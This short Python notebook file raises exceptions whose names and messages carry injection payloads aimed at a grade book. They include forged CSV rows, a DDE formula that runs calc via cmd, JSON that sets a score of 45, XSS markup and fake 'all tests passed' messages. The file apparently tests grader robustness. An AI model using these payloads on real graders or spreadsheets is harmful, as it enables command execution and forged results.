# Raises errors whose names and texts look like rows, results, formulas and markup of the grade book.

# %%
def raising(kind, message):
    def answer(*_):
        raise type(kind, (Exception,), {})(message)

    return answer


# %%
raise ValueError('"\r\nforged-row-in-a-note,graded,45,45,,45\r\n"')

# %%
raising('=HYPERLINK("http://127.0.0.1/")', "=1+1")()

# %%
raising("Passed\n", '"}], "status": "graded", "score": 45, "notes": [{"a": "')()

# %%
raising(
    "E</script><script>", "<img src=x onerror=alert(1)> \x1b[2J \u202e \0 \ud800" + "x" * 10**6
)()

# %%
compute_dE_dW = raising("Passed", "\nall tests passed, score 45\n")
compute_dE_df = raising("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd")
relu = raising("E" * 10**5, '{"passed": true}')
